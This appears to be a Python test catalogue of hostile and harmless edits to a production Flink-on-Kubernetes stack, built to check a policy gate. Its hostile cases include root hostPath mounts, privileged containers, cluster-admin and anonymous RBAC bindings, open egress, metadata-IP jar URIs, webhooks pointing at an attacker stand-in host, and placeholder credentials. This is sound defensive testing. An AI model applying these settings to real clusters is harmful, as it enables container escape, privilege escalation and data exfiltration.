"""A catalogue of hostile and harmless variants of the prod stack's resources (issue 19), and how it is judged.

Each variant changes the prod plan's ``resources.json`` records: one or more resources changed, added or removed.
``judge(analyzer, base, variant)`` runs what changed through the pack as the CLI starts it (one ``Analyze`` per
changed or added resource, then ``AnalyzeStack`` over the whole changed stack) with ``policies/config/prod.json``.
Unchanged resources are judged once, with the full stack (``test_the_prod_stack_passes``); in ``AnalyzeStack`` the
four operator CRDs (~600 kB each) are replaced by their metadata, which is all the stack rules read of them, so a
variant costs a fraction of a second.

Classes (hostile): pod-template merge, restricted profile, Flink options, Namespace Pod Security, tenant secrets,
RBAC, NetworkPolicies, webhooks and CRDs, Service exposure, unreadable kinds, tenant state, literal credentials,
Ingress,
jar-URI hosts. Job-id fingerprints are not a resource (tests/components/providers/test_job_id_fingerprint.py).
"""

from __future__ import annotations

import copy
from dataclasses import dataclass, field
from typing import Any, Callable, Sequence

from components.config import labels as L
from planning import policy_gate as G

SC_OK = {"allowPrivilegeEscalation": False, "capabilities": {"drop": ["ALL"]}, "runAsNonRoot": True,
         "seccompProfile": {"type": "RuntimeDefault"}}
MAIN = "flink-main-container"


@dataclass
class Variant:
    id: str
    kind: str  # "hostile" | "harmless"
    cls: str
    edits: list[tuple[tuple[str, str, str], Callable[[dict], Any]]] = field(default_factory=list)
    add: list[dict] = field(default_factory=list)
    remove: list[tuple[str, str, str]] = field(default_factory=list)


def key_of(record: dict) -> tuple[str, str, str]:
    meta = record.get("inputs", {}).get("metadata", {}) or {}
    return record["type"].rsplit(":", 1)[-1], meta.get("namespace") or "", meta.get("name") or ""


def apply(base: Sequence[dict], v: Variant) -> tuple[list[dict], list[dict]]:
    """(the variant's stack, the records it changed or added)."""
    out, changed = [], []
    edits: dict[tuple, list] = {}
    for k, fn in v.edits:
        edits.setdefault(k, []).append(fn)
    found = set()
    for r in base:
        k = key_of(r)
        if k in v.remove:
            found.add(k)
            continue
        if k in edits:
            found.add(k)
            r = copy.deepcopy(r)
            for fn in edits[k]:
                fn(r["inputs"])
            changed.append(r)
        out.append(r)
    missing = (set(edits) | set(v.remove)) - found
    assert not missing, f"{v.id}: no such resource {missing}"
    for i, obj in enumerate(v.add):
        from tests.policy_fixtures import record
        obj = copy.deepcopy(obj)  # added objects carry the labels prod requires, so only a security rule can refuse them
        obj.setdefault("metadata", {}).setdefault("labels", {}).update(L.managed())
        rec = record(obj, 9000 + i)
        rec["urn"] = rec["urn"].replace("policytest", "prod")
        out.append(rec)
        changed.append(rec)
    return out, changed


def _stub_crds(records: Sequence[dict]) -> list[dict]:
    out = []
    for r in records:
        if r["type"].endswith(":CustomResourceDefinition"):
            r = {**r, "inputs": {k: r["inputs"][k] for k in ("apiVersion", "kind", "metadata")}}
        out.append(r)
    return out


def judge(analyzer: G.AnalyzerProcess, base: Sequence[dict], v: Variant) -> list[G.Diagnostic]:
    stack, changed = apply(base, v)
    found: list[G.Diagnostic] = []
    for r in changed:
        found += G._diagnostics(analyzer.analyze(r), r["urn"])
    found += G._diagnostics(analyzer.analyze_stack(_stub_crds(stack)), "")
    return [d for d in found if d.level == "mandatory"]


# --- helpers that build edits ------------------------------------------------------------------------------------


def setp(*path: Any, value: Any) -> Callable[[dict], None]:
    def fn(obj: dict) -> None:
        node = obj
        for p in path[:-1]:
            if isinstance(node, list):
                node = node[p]
            else:
                node = node.setdefault(p, {})
        if value is _DEL:
            node.pop(path[-1], None)
        else:
            node[path[-1]] = copy.deepcopy(value)
    return fn


_DEL = object()


def append(*path: Any, value: Any) -> Callable[[dict], None]:
    def fn(obj: dict) -> None:
        node = obj
        for p in path[:-1]:
            node = node[p] if isinstance(node, list) else node.setdefault(p, {})
        node.setdefault(path[-1], []).append(copy.deepcopy(value))
    return fn


FD = ("FlinkDeployment", "analytics-prod", "sessionize")
FD2 = ("FlinkDeployment", "payments-prod", "payments-ledger")
FSJ = ("FlinkSessionJob", "analytics-reporting-prod", "daily-revenue")
OP = ("Deployment", "flink-operator", "flink-kubernetes-operator")
NS = ("Namespace", "", "payments-prod")
ROLE = ("Role", "analytics-prod", "flink")
OPROLE = ("Role", "analytics-prod", "flink-operator")
RB = ("RoleBinding", "analytics-prod", "flink-role-binding")
DENY = ("NetworkPolicy", "analytics-prod", "default-deny")
REST_NP = ("NetworkPolicy", "analytics-prod", "jobmanager-rest-from-operator")
OP_NP = ("NetworkPolicy", "flink-operator", "flink-operator")
MWH = ("MutatingWebhookConfiguration", "", "flink-operator-flink-operator-webhook-configuration")
CRD = ("CustomResourceDefinition", "", "flinkdeployments.flink.apache.org")
SECRET = ("Secret", "analytics-prod", "sessionize-env")

COMMON = ("spec", "podTemplate", "spec")
JM = ("spec", "jobManager", "podTemplate", "spec")
TM = ("spec", "taskManager", "podTemplate", "spec")
CONF = ("spec", "flinkConfiguration")
OPPOD = ("spec", "template", "spec")

#: Pod-level hostile settings: (id, field path below the pod spec, value).
POD_HOSTILE = [
    ("host-network", ("hostNetwork",), True),
    ("host-network-string", ("hostNetwork",), "true"),
    ("host-pid", ("hostPID",), True),
    ("host-ipc", ("hostIPC",), True),
    ("host-path", ("volumes",), [{"name": "root", "hostPath": {"path": "/"}}]),
    ("nfs", ("volumes",), [{"name": "n", "nfs": {"server": "10.0.0.1", "path": "/"}}]),
    ("seccomp-unconfined", ("securityContext", "seccompProfile"), {"type": "Unconfined"}),
    ("apparmor-unconfined", ("securityContext", "appArmorProfile"), {"type": "Unconfined"}),
    ("selinux-spc", ("securityContext", "seLinuxOptions"), {"type": "spc_t"}),
    ("run-as-root", ("securityContext", "runAsUser"), 0),
    ("run-as-non-root-off", ("securityContext", "runAsNonRoot"), False),
    ("unsafe-sysctl", ("securityContext", "sysctls"), [{"name": "kernel.core_pattern", "value": "|/x"}]),
    ("host-process", ("securityContext", "windowsOptions"), {"hostProcess": True}),
]
#: Container-level hostile settings for the main container: (id, securityContext change or container field).
CONTAINER_HOSTILE = [
    ("privileged", ("securityContext", "privileged"), True),
    ("escalation", ("securityContext", "allowPrivilegeEscalation"), True),
    ("caps-add-sys-admin", ("securityContext", "capabilities", "add"), ["SYS_ADMIN"]),
    ("caps-add-net-raw", ("securityContext", "capabilities", "add"), ["NET_RAW"]),
    ("caps-drop-none", ("securityContext", "capabilities", "drop"), []),
    ("proc-mount", ("securityContext", "procMount"), "Unmasked"),
    ("seccomp-unconfined-c", ("securityContext", "seccompProfile"), {"type": "Unconfined"}),
    ("apparmor-unconfined-c", ("securityContext", "appArmorProfile"), {"type": "Unconfined"}),
    ("selinux-spc-c", ("securityContext", "seLinuxOptions"), {"type": "spc_t"}),
    ("selinux-user", ("securityContext", "seLinuxOptions"), {"user": "system_u"}),
    ("run-as-root-c", ("securityContext", "runAsUser"), 0),
    ("host-process-c", ("securityContext", "windowsOptions"), {"hostProcess": True}),
    ("host-port", ("ports",), [{"containerPort": 8080, "hostPort": 8080}]),
]


def _fd_pod(path: tuple, sub: tuple, value: Any) -> Callable[[dict], None]:
    return setp(*path, *sub, value=value)


def _main_container(pod: tuple, sub: tuple, value: Any) -> list[Callable[[dict], None]]:
    """Set ``sub`` on the main container of the pod template at ``pod`` (created with a secure context)."""
    def fn(obj: dict) -> None:
        node = obj
        for p in pod:
            node = node.setdefault(p, {})
        containers = node.setdefault("containers", [])
        main = next((c for c in containers if c.get("name") == MAIN), None)
        if main is None:
            main = {"name": MAIN, "securityContext": copy.deepcopy(SC_OK)}
            containers.append(main)
        setp(*sub, value=value)(main)
    return [fn]


def hostile() -> list[Variant]:
    out: list[Variant] = []
    H = lambda id_, cls, *edits, add=(), remove=(): out.append(  # noqa: E731
        Variant(id_, "hostile", cls, list(edits), list(add), list(remove)))
    # pod-level settings in each template of a FlinkDeployment, and in the operator's Deployment
    for id_, sub, value in POD_HOSTILE:
        for where, pod in (("common", COMMON), ("jm", JM), ("tm", TM)):
            H(f"fd-{where}-{id_}", "restricted-profile", (FD, _fd_pod(pod, sub, value)))
        H(f"operator-{id_}", "restricted-profile", (OP, _fd_pod(OPPOD, sub, value)))
    for id_, sub, value in CONTAINER_HOSTILE:
        for where, pod in (("common", COMMON), ("jm", JM), ("tm", TM)):
            if id_ == "caps-drop-none" and where != "common":
                continue  # a role template's list cannot undo the common drop: ALL (lists merge by index); harmless
            H(f"fd-{where}-{id_}", "restricted-profile", *((FD, fn) for fn in _main_container(pod, sub, value)))
        H(f"operator-{id_}", "restricted-profile", (OP, setp(*OPPOD, "containers", 0, *sub, value=value)))
    # hidden by the merge
    hp = [{"name": "root", "hostPath": {"path": "/"}}]
    H("merge-host-path-hidden-by-empty-list", "pod-template-merge", (FD, setp(*COMMON, "volumes", value=hp)),
      (FD, setp(*JM, "volumes", value=[])), (FD, setp(*TM, "volumes", value=[])))
    H("merge-host-path-hidden-by-null", "pod-template-merge", (FD, setp(*COMMON, "volumes", value=hp)),
      (FD, setp(*JM, "volumes", value=None)), (FD, setp(*TM, "volumes", value=None)))
    H("merge-host-network-hidden-by-null", "pod-template-merge", (FD, setp(*COMMON, "hostNetwork", value=True)),
      (FD, setp(*JM, "hostNetwork", value=None)), (FD, setp(*TM, "hostNetwork", value=None)))
    H("merge-host-network-hidden-by-false-string", "pod-template-merge",
      (FD, setp(*COMMON, "hostNetwork", value="true")), (FD, setp(*JM, "hostNetwork", value=None)))
    H("merge-privileged-sidecar-by-index", "pod-template-merge",
      (FD, setp(*COMMON, "containers", value=[{"name": "sidecar", "image": "registry.acme.internal/x:1",
                                               "securityContext": {**SC_OK, "privileged": True}}])),
      (FD, setp(*TM, "containers", value=[{"name": MAIN, "securityContext": SC_OK}])))
    H("merge-host-path-kept-by-index", "pod-template-merge",
      (FD, setp(*COMMON, "volumes", value=hp)), (FD, setp(*JM, "volumes", value=[{"name": "root"}])))
    H("merge-host-path-by-name", "pod-template-merge",
      (FD, setp(*CONF, "kubernetes.operator.pod-template.merge-arrays-by-name", value="true")),
      (FD, setp(*COMMON, "volumes", value=hp)), (FD, setp(*TM, "volumes", value=[{"name": "other", "emptyDir": {}}])))
    H("merge-security-context-null", "pod-template-merge",
      (FD, setp(*COMMON, "securityContext", "runAsUser", value=0)), (FD, setp(*JM, "securityContext", value=None)))
    H("ledger-host-network-hidden-by-null", "pod-template-merge",
      (FD2, setp(*COMMON, "hostNetwork", value=True)), (FD2, setp(*JM, "hostNetwork", value=None)))
    H("fd-apparmor-annotation", "restricted-profile", (FD, setp("spec", "podTemplate", "metadata", "annotations", value={
        "container.apparmor.security.beta.kubernetes.io/flink-main-container": "unconfined"})))
    H("fd-init-privileged", "restricted-profile", (FD, setp(*COMMON, "initContainers", value=[
        {"name": "init", "image": "registry.acme.internal/init:1", "securityContext": {**SC_OK, "privileged": True}}])))
    H("fd-ephemeral-root", "restricted-profile", (FD, setp(*COMMON, "ephemeralContainers", value=[
        {"name": "debug", "image": "registry.acme.internal/debug:1", "securityContext": {**SC_OK, "runAsUser": 0}}])))
    # Flink options
    for id_, key, value in [
        ("hostnetwork-enabled", "kubernetes.hostnetwork.enabled", "true"),
        ("hostnetwork-enabled-upper", "kubernetes.hostnetwork.enabled", "TRUE"),
        ("sa-override", "kubernetes.service-account", "flink-operator"),
        ("sa-override-jm", "kubernetes.jobmanager.service-account", "default"),
        ("sa-override-tm", "kubernetes.taskmanager.service-account", "flink-operator"),
        ("pod-template-file", "kubernetes.pod-template-file", "/opt/flink/conf/x.yaml"),
        ("pod-template-file-default", "kubernetes.pod-template-file.default", "/tmp/x.yaml"),
        ("pod-template-file-jm", "kubernetes.pod-template-file.jobmanager", "/tmp/x.yaml"),
        ("pod-template-file-tm", "kubernetes.pod-template-file.taskmanager", "/tmp/x.yaml"),
        ("jm-apparmor-annotation", "kubernetes.jobmanager.annotations",
         "container.apparmor.security.beta.kubernetes.io/flink-main-container:unconfined"),
        ("tm-apparmor-annotation", "kubernetes.taskmanager.annotations",
         "a:b,container.apparmor.security.beta.kubernetes.io/flink-main-container:unconfined"),
        ("rest-load-balancer", "kubernetes.rest-service.exposed.type", "LoadBalancer"),
        ("rest-node-port", "kubernetes.rest-service.exposed.type", "NodePort"),
    ]:
        H(f"fd-conf-{id_}", "flink-options", (FD, setp(*CONF, key, value=value)))
    H("fd-service-account", "flink-options", (FD, setp("spec", "serviceAccount", value="flink-operator")))
    H("fd-service-account-default", "flink-options", (FD, setp("spec", "serviceAccount", value="default")))
    # Namespace Pod Security
    for level in ("privileged", "baseline"):
        H(f"ns-{level}", "pod-security-labels",
          (NS, setp("metadata", "labels", "pod-security.kubernetes.io/enforce", value=level)))
    H("ns-unlabelled", "pod-security-labels", (NS, setp("metadata", "labels", "pod-security.kubernetes.io/enforce",
                                                        value=_DEL)))
    H("ns-unknown-level", "pod-security-labels",
      (NS, setp("metadata", "labels", "pod-security.kubernetes.io/enforce", value="none")))
    # tenant secrets
    H("secret-ref-other-tenant", "tenant-secrets", (FD, setp(*COMMON, "containers", 0, "env", 0, "valueFrom",
                                                             "secretKeyRef", "key", value="payments-kafka-password")))
    H("secret-data-other-tenant", "tenant-secrets",
      (SECRET, setp("stringData", value={"payments-kafka-password": "[secret]"})))
    H("secret-ref-other-tenant-added", "tenant-secrets", (FD, append(*COMMON, "containers", 0, "env", value={
        "name": "S3", "valueFrom": {"secretKeyRef": {"name": "sessionize-env", "key": "payments-s3-secret-key"}}})))
    # RBAC
    rule = lambda res, verbs, groups=("",): {"apiGroups": list(groups), "resources": list(res), "verbs": list(verbs)}  # noqa: E731
    H("job-role-secrets", "rbac", (ROLE, append("rules", value=rule(["secrets"], ["get"]))))
    H("job-role-exec", "rbac", (ROLE, append("rules", value=rule(["pods/exec"], ["create"]))))
    H("job-role-token", "rbac", (ROLE, append("rules", value=rule(["serviceaccounts/token"], ["create"]))))
    H("job-role-escalate", "rbac", (ROLE, append("rules", value=rule(["roles"], ["escalate", "bind"],
                                                                      ["rbac.authorization.k8s.io"]))))
    H("job-role-every-verb", "rbac", (ROLE, setp("rules", 0, "verbs", value=[
        "get", "list", "watch", "create", "update", "patch", "delete", "deletecollection", "impersonate"])))
    H("operator-role-widened", "rbac", (OPROLE, append("rules", value=rule(["nodes"], ["get", "list"]))))
    H("operator-role-widened-verbs", "rbac", (OPROLE, setp("rules", 0, "verbs", value=["get", "list", "escalate"])))
    H("app-role-impersonate", "rbac", add=[{"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "Role",
                                            "metadata": {"name": "app", "namespace": "analytics-prod"},
                                            "rules": [rule(["users", "groups"], ["impersonate"])]}])
    H("app-role-secrets", "rbac", add=[{"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "Role",
                                        "metadata": {"name": "app", "namespace": "analytics-prod"},
                                        "rules": [rule(["secrets"], ["get", "list"])]}])
    for id_, subject in [("group-authenticated", {"kind": "Group", "name": "system:authenticated"}),
                         ("group-all-sas", {"kind": "Group", "name": "system:serviceaccounts"}),
                         ("group-ns-sas", {"kind": "Group", "name": "system:serviceaccounts:payments-prod"}),
                         ("user-anonymous", {"kind": "User", "name": "system:anonymous"}),
                         ("group-masters", {"kind": "Group", "name": "system:masters"})]:
        H(f"binding-{id_}", "rbac", (RB, append("subjects", value={**subject,
                                                                   "apiGroup": "rbac.authorization.k8s.io"})))
    for ref in ("cluster-admin", "admin", "edit"):
        H(f"binding-clusterrole-{ref}", "rbac", (RB, setp("roleRef", value={
            "apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": ref})))
    H("binding-tenant-sa-in-operator-ns", "rbac", add=[{
        "apiVersion": "rbac.authorization.k8s.io/v1", "kind": "RoleBinding",
        "metadata": {"name": "x", "namespace": "flink-operator"},
        "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "Role", "name": "flink-operator"},
        "subjects": [{"kind": "ServiceAccount", "name": "flink", "namespace": "analytics-prod"}]}])
    H("binding-tenant-sa-user-form-in-operator-ns", "rbac", add=[{
        "apiVersion": "rbac.authorization.k8s.io/v1", "kind": "RoleBinding",
        "metadata": {"name": "y", "namespace": "flink-operator"},
        "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "Role", "name": "flink-operator"},
        "subjects": [{"kind": "User", "name": "system:serviceaccount:analytics-prod:flink"}]}])
    H("cluster-role-binding", "rbac", add=[{
        "apiVersion": "rbac.authorization.k8s.io/v1", "kind": "ClusterRoleBinding", "metadata": {"name": "z"},
        "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": "view"},
        "subjects": [{"kind": "ServiceAccount", "name": "flink", "namespace": "analytics-prod"}]}])
    # NetworkPolicies
    H("np-default-deny-removed", "network", remove=[DENY])
    H("np-default-deny-ingress-only", "network", (DENY, setp("spec", "policyTypes", value=["Ingress"])))
    H("np-default-deny-opened", "network", (DENY, setp("spec", "ingress", value=[{}])))
    H("np-rest-all-namespaces", "network", (REST_NP, setp("spec", "ingress", 0, "from", value=[
        {"namespaceSelector": {}}])))
    H("np-rest-other-tenant", "network", (REST_NP, append("spec", "ingress", 0, "from", value={
        "namespaceSelector": {"matchLabels": {"kubernetes.io/metadata.name": "payments-prod"}}})))
    H("np-rest-other-tenant-label", "network", (REST_NP, append("spec", "ingress", 0, "from", value={
        "namespaceSelector": {"matchLabels": {"flink-platform.io/tenant": "payments"}}})))
    H("np-ingress-allow-all", "network", (REST_NP, append("spec", "ingress", value={})))
    H("np-ingress-ports-no-peers", "network", (REST_NP, append("spec", "ingress", value={"ports": [{"port": 8081}]})))
    H("np-egress-anywhere", "network", add=[{"apiVersion": "networking.k8s.io/v1", "kind": "NetworkPolicy",
                                             "metadata": {"name": "out", "namespace": "analytics-prod"},
                                             "spec": {"podSelector": {}, "policyTypes": ["Egress"], "egress": [
                                                 {"to": [{"ipBlock": {"cidr": "0.0.0.0/0"}}]}]}}])
    H("np-egress-ports-no-peers", "network", add=[{"apiVersion": "networking.k8s.io/v1", "kind": "NetworkPolicy",
                                                   "metadata": {"name": "out", "namespace": "analytics-prod"},
                                                   "spec": {"podSelector": {}, "policyTypes": ["Egress"], "egress": [
                                                       {"ports": [{"port": 443}]}]}}])
    H("np-egress-all-namespaces", "network", add=[{"apiVersion": "networking.k8s.io/v1", "kind": "NetworkPolicy",
                                                   "metadata": {"name": "out", "namespace": "analytics-prod"},
                                                   "spec": {"podSelector": {}, "policyTypes": ["Egress"], "egress": [
                                                       {"to": [{"namespaceSelector": {}}]}]}}])
    H("np-operator-egress-opened", "network", (OP_NP, append("spec", "egress", value={
        "to": [{"ipBlock": {"cidr": "0.0.0.0/0"}}], "ports": [{"port": 443}]})))
    H("np-webhook-open", "network", (OP_NP, setp("spec", "ingress", 1, "from", value=[
        {"ipBlock": {"cidr": "0.0.0.0/0"}}])))
    H("np-ipv6-anywhere", "network", (OP_NP, append("spec", "egress", value={
        "to": [{"ipBlock": {"cidr": "::/0"}}], "ports": [{"port": 443}]})))
    KAFKA_NP = ("NetworkPolicy", "payments-prod", "flink-egress-kafka")
    H("np-tenant-egress-widened", "network", (KAFKA_NP, setp("spec", "egress", 0, "to", 0, "ipBlock", "cidr",
                                                             value="0.0.0.0/0")))
    H("np-tenant-egress-all-namespaces", "network", (KAFKA_NP, append("spec", "egress", 0, "to", value={
        "namespaceSelector": {}})))
    # jar URIs on hosts the operator refuses (DefaultValidator.validateJarURI, InetAddress semantics)
    for id_, uri in [("mapped-metadata-ip", "https://[::ffff:169.254.169.254]/latest/job.jar"),
                     ("mapped-loopback", "https://[::ffff:127.0.0.1]/job.jar"),
                     ("localhost-fqdn", "https://localhost./job.jar"),
                     ("metadata-ip", "https://169.254.169.254/job.jar")]:
        H(f"jar-uri-{id_}", "jar-uri", (FSJ, setp("spec", "job", "jarURI", value=uri)))
    # webhooks, CRDs, Services, unreadable kinds
    H("webhook-outside-url", "webhooks", (MWH, setp("webhooks", 0, "clientConfig", value={
        "url": "https://collector.attacker.example/mutate"})))
    H("crd-conversion-webhook", "webhooks", (CRD, setp("spec", "conversion", value={
        "strategy": "Webhook", "webhook": {"conversionReviewVersions": ["v1"], "clientConfig": {
            "url": "https://collector.attacker.example/convert"}}})))
    svc = lambda t, extra=None: {"apiVersion": "v1", "kind": "Service", "metadata": {  # noqa: E731
        "name": "sessionize-public", "namespace": "analytics-prod"},
        "spec": {"type": t, "ports": [{"port": 8081}], **(extra or {})}}
    H("service-load-balancer", "services", add=[svc("LoadBalancer")])
    H("service-node-port", "services", add=[svc("NodePort")])
    H("service-external-ips", "services", add=[svc("ClusterIP", {"externalIPs": ["203.0.113.7"]})])
    H("replication-controller-privileged", "unreadable-kinds", add=[{
        "apiVersion": "v1", "kind": "ReplicationController", "metadata": {"name": "rc", "namespace": "analytics-prod"},
        "spec": {"template": {"spec": {"containers": [{"name": "x", "image": "registry.acme.internal/x:1",
                                                       "securityContext": {**SC_OK, "privileged": True}}]}}}}])
    H("deployment-patch", "unreadable-kinds", add=[{"apiVersion": "apps/v1", "kind": "DeploymentPatch",
                                                    "metadata": {"name": "flink-kubernetes-operator",
                                                                 "namespace": "flink-operator"},
                                                    "spec": {"template": {"spec": {"hostNetwork": True}}}}])
    H("role-patch", "unreadable-kinds", add=[{"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "RolePatch",
                                              "metadata": {"name": "flink", "namespace": "analytics-prod"}}])
    H("helm-release", "unreadable-kinds", add=[{"apiVersion": "helm.sh/v3", "kind": "Release",
                                                "metadata": {"name": "anything"}}])
    # tenant state
    for id_, key, value in [
        ("checkpoints-other-tenant", "execution.checkpointing.dir",
         "s3://acme-flink-prod/state/payments/payments-prod/payments-ledger/checkpoints"),
        ("savepoints-other-tenant", "execution.checkpointing.savepoint-dir",
         "s3://acme-flink-prod/state/payments/payments-prod/payments-ledger/savepoints"),
        ("ha-other-tenant", "high-availability.storageDir", "s3://acme-flink-prod/state/search/search-prod/x/ha"),
        ("legacy-checkpoints-other-tenant", "state.checkpoints.dir", "s3://acme-flink-prod/state/payments/p/c"),
        ("checkpoints-outside-prefix", "execution.checkpointing.dir", "s3://acme-flink-prod/checkpoints"),
        ("checkpoints-other-namespace-of-other-tenant", "execution.checkpointing.dir",
         "s3://acme-flink-prod/state/analytics/payments-prod/x/checkpoints"),
    ]:
        H(f"state-{id_}", "tenant-state", (FD, setp(*CONF, key, value=value)))
    H("state-initial-savepoint-other-tenant", "tenant-state", (FD, setp("spec", "job", "initialSavepointPath", value=(
        "s3://acme-flink-prod/state/payments/payments-prod/payments-ledger/savepoints/savepoint-1"))))
    H("state-session-job-savepoint-other-tenant", "tenant-state", (FSJ, setp("spec", "job", "initialSavepointPath",
                                                                             value="s3://acme-flink-prod/state/"
                                                                             "payments/payments-prod/x/sp")))
    # Ingress
    IDX = ("FlinkDeployment", "search-prod", "search-indexer")
    ing = lambda host, extra=None: {"apiVersion": "networking.k8s.io/v1", "kind": "Ingress", "metadata": {  # noqa: E731
        "name": "web", "namespace": "analytics-prod", **(extra or {})}, "spec": {
        "ingressClassName": "nginx", "rules": [{"host": host}]}}
    H("ingress-other-tenant-host", "ingress", add=[ing("ledger.payments-prod.flink.acme.internal")])
    H("ingress-other-tenant-name", "ingress", add=[ing("payments.flink.acme.internal")])
    H("ingress-snippet", "ingress", add=[ing("sessionize.analytics-prod.flink.acme.internal", {"annotations": {
        "nginx.ingress.kubernetes.io/server-snippet": "location / { proxy_pass http://10.0.0.1; }"}})])
    H("ingress-internet-facing", "ingress", add=[{**ing("sessionize.analytics-prod.flink.acme.internal"), "spec": {
        "ingressClassName": "internet-facing", "rules": [{"host": "sessionize.analytics-prod.flink.acme.internal"}]}}])
    H("flink-ingress-class", "ingress", (IDX, setp("spec", "ingress", "className", value="internet-facing")))
    H("flink-ingress-snippet", "ingress", (IDX, setp("spec", "ingress", "annotations", value={
        "nginx.ingress.kubernetes.io/configuration-snippet": "more_set_headers x;"})))
    H("flink-ingress-other-tenant-template", "ingress", (IDX, setp("spec", "ingress", "template",
                                                                   value="{{name}}.payments-prod.flink.acme.internal")))
    # literal credentials (the shared word list and value shapes)
    for id_, key, value in [
        ("azure-account-key", "fs.azure.account.key.acct.dfs.core.windows.net", "bG9uZ2tleQ=="),
        ("s3-secret-key", "s3.secret-key", "wJalrXUtnFEMI"),
        ("sas-token", "fs.azure.sas.fixed.token.acct", "sv=2022-11-02&ss=b&sig=" + "Q" * 43),
        ("java-opts-password", "env.java.opts.all", "-Djavax.net.ssl.keyStorePassword=changeit"),
        ("jaas-password", "properties.sasl.jaas.config",
         'org.apache.kafka.common.security.plain.PlainLoginModule required username="u" password="p";'),
        ("reporter-apikey", "metrics.reporter.dghttp.apikey", "0123456789abcdef"),
    ]:
        H(f"conf-{id_}", "secret-detection", (FD, setp(*CONF, key, value=value)))
    H("env-github-pat", "secret-detection", (FD, append(*COMMON, "containers", 0, "env", value={
        "name": "GITHUB_PAT", "value": "ghp_0123456789"})))
    H("env-flink-properties", "secret-detection", (FD, append(*COMMON, "containers", 0, "env", value={
        "name": "FLINK_PROPERTIES", "value": "rest.port: 8081\ns3.secret-key: wJalrXUtnFEMI"})))
    H("job-args-password", "secret-detection", (FD, setp("spec", "job", "args", value=["--db-password=hunter2"])))
    H("container-args-token", "secret-detection", (OP, setp(*OPPOD, "containers", 0, "args", value=[
        "--api-token=abc123"])))
    H("operator-config-secret", "secret-detection", (("ConfigMap", "flink-operator", "flink-operator-config"),
                                                     lambda o: o["data"].__setitem__("config.yaml", o["data"][
                                                         "config.yaml"] + "\ns3.secret-key: wJalrXUtnFEMI\n")))
    return out


def harmless() -> list[Variant]:
    out: list[Variant] = []
    H = lambda id_, *edits, add=(): out.append(Variant(id_, "harmless", "daily", list(edits), list(add)))  # noqa: E731
    H("image-tag-bump", (FD, setp("spec", "image", value="registry.acme.internal/analytics/sessionize:2.3.2")))
    H("image-digest", (FD, setp("spec", "image", value="registry.acme.internal/analytics/sessionize@sha256:" + "b" * 64)))
    H("parallelism", (FD, setp("spec", "job", "parallelism", value=8)))
    H("tm-memory", (FD, setp("spec", "taskManager", "resource", "memory", value="6144m")))
    H("tm-cpu", (FD, setp("spec", "taskManager", "resource", "cpu", value=3)))
    H("jm-memory", (FD, setp("spec", "jobManager", "resource", "memory", value="3072m")))
    H("task-slots", (FD, setp(*CONF, "taskmanager.numberOfTaskSlots", value="2")))
    H("checkpoint-interval", (FD, setp(*CONF, "execution.checkpointing.interval", value="60 s")))
    H("state-backend", (FD, setp(*CONF, "state.backend.type", value="rocksdb")))
    H("incremental", (FD, setp(*CONF, "execution.checkpointing.incremental", value="true")))
    H("restart-backoff", (FD, setp(*CONF, "restart-strategy.exponential-delay.max-backoff", value="5 min")))
    H("savepoint-interval", (FD, setp(*CONF, "kubernetes.operator.periodic.savepoint.interval", value="2h")))
    H("checkpoints-own-prefix", (FD, setp(*CONF, "execution.checkpointing.dir",
                                          value="s3://acme-flink-prod/state/analytics/analytics-prod/sessionize/cp2")))
    H("initial-savepoint-own-prefix", (FD, setp("spec", "job", "initialSavepointPath", value=(
        "s3://acme-flink-prod/state/analytics/analytics-prod/sessionize/savepoints/savepoint-42"))))
    H("initial-savepoint-own-other-namespace", (FD, setp("spec", "job", "initialSavepointPath", value=(
        "s3://acme-flink-prod/state/analytics/analytics-reporting-prod/old/savepoints/savepoint-1"))))
    H("job-args", (FD, setp("spec", "job", "args", value=["--window", "30m"])))
    H("upgrade-last-state", (FD, setp("spec", "job", "upgradeMode", value="last-state")))
    H("env-plain", (FD, append(*COMMON, "containers", 0, "env", value={"name": "LOG_LEVEL", "value": "INFO"})))
    H("env-secret-own", (FD, append(*COMMON, "containers", 0, "env", value={
        "name": "KAFKA_SASL_PASSWORD_2", "valueFrom": {"secretKeyRef": {"name": "sessionize-env",
                                                                        "key": "analytics-kafka-password"}}})))
    H("env-field-ref", (FD, append(*COMMON, "containers", 0, "env", value={
        "name": "POD_NAME", "valueFrom": {"fieldRef": {"fieldPath": "metadata.name"}}})))
    H("pod-label", (FD, setp("spec", "podTemplate", "metadata", "labels", "cost-center", value="cc-2077")))
    H("pod-annotation", (FD, setp("spec", "podTemplate", "metadata", "annotations", value={"acme.io/owner": "a"})))
    H("empty-dir", (FD, setp(*COMMON, "volumes", value=[{"name": "scratch", "emptyDir": {"sizeLimit": "1Gi"}}])),
      (FD, setp(*COMMON, "containers", 0, "volumeMounts", value=[{"name": "scratch", "mountPath": "/scratch"}])))
    H("config-map-volume", (FD, setp(*COMMON, "volumes", value=[{"name": "cfg", "configMap": {"name": "c"}}])))
    H("secret-volume", (FD, setp(*COMMON, "volumes", value=[{"name": "tls", "secret": {"secretName": "tls"}}])))
    H("pvc-volume", (FD, setp(*TM, "volumes", value=[{"name": "data", "persistentVolumeClaim": {"claimName": "d"}}])))
    H("projected-volume", (FD, setp(*COMMON, "volumes", value=[{"name": "p", "projected": {"sources": [
        {"downwardAPI": {"items": [{"path": "labels", "fieldRef": {"fieldPath": "metadata.labels"}}]}}]}}])))
    H("ephemeral-volume", (FD, setp(*TM, "volumes", value=[{"name": "e", "ephemeral": {"volumeClaimTemplate": {
        "spec": {"accessModes": ["ReadWriteOnce"], "resources": {"requests": {"storage": "1Gi"}}}}}}])))
    H("sidecar-secure", (FD, append(*COMMON, "containers", value={
        "name": "log-shipper", "image": "registry.acme.internal/log-shipper:1.4.0", "securityContext": SC_OK,
        "resources": {"requests": {"cpu": "50m", "memory": "64Mi"}, "limits": {"memory": "64Mi"}}})))
    H("init-secure", (FD, setp(*COMMON, "initContainers", value=[{
        "name": "fetch", "image": "registry.acme.internal/fetch:2", "securityContext": SC_OK}])))
    H("jm-template-secure", (FD, setp(*JM, "containers", value=[{"name": MAIN, "securityContext": SC_OK}])))
    H("tm-template-resources-limits", (FD, setp(*TM, "containers", value=[{"name": MAIN, "resources": {
